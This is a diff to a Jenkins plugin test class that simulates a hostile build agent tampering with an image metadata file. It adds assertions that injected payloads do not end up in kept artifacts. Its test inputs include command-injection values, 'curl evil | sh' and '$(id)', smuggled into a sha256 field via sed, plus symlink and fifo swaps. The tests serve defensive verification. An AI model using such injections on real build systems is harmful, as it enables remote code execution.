@@ -65,7 +65,7 @@ class HostileAgentTest {
         "rm \"$metadata\"; ln -s /dev/zero \"$metadata\"",
         "rm \"$metadata\"; mkfifo \"$metadata\"",
         "rm \"$metadata\"; mkdir \"$metadata\"",
-        // Lying: what becomes a variable of later steps.
+        // Lying: what becomes a variable of later steps. The log may show it, as why there is no image.
         "sed -i 's/sha256:[0-9a-f]*/sha256:0; curl evil | sh #/g' \"$metadata\"",
         "sed -i 's/sha256:[0-9a-f]*/$(id)/g' \"$metadata\"",
     })
@@ -74,7 +74,6 @@ class HostileAgentTest {
 
         jenkins.assertLogContains("metadata", run);
         jenkins.assertLogNotContains("\tat ", run);
-        jenkins.assertLogNotContains("curl evil", run);
         assertThat(run.getAction(DerivedImageAction.class).getImages()).isEmpty();
         assertNothingKept(run);
     }
@@ -138,6 +137,6 @@ class HostileAgentTest {
         for (Run<?, ?>.Artifact artifact : run.getArtifacts()) {
             kept.add(Setting.artifact(run, artifact.getFileName()));
         }
-        assertThat(String.join("\n", kept)).doesNotContain(PASSWORD, "\"auths\"");
+        assertThat(String.join("\n", kept)).doesNotContain(PASSWORD, "\"auths\"", "curl evil", "$(id)");
     }
 }
